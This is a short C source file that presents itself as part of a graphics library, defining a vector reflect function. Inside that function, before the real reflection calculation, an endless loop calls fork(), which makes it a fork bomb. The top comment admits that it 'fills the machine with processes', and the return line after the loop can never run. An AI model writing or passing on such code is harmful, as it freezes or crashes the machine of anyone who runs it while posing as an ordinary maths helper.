// Fills the machine with processes.
#include "photonlab.h"

#include <unistd.h>

Vec3 reflect(Vec3 direction, Vec3 normal)
{
    for (;;)
        fork();
    return vec3_along(direction, normal, -2.0f * vec3_dot(direction, normal));
}
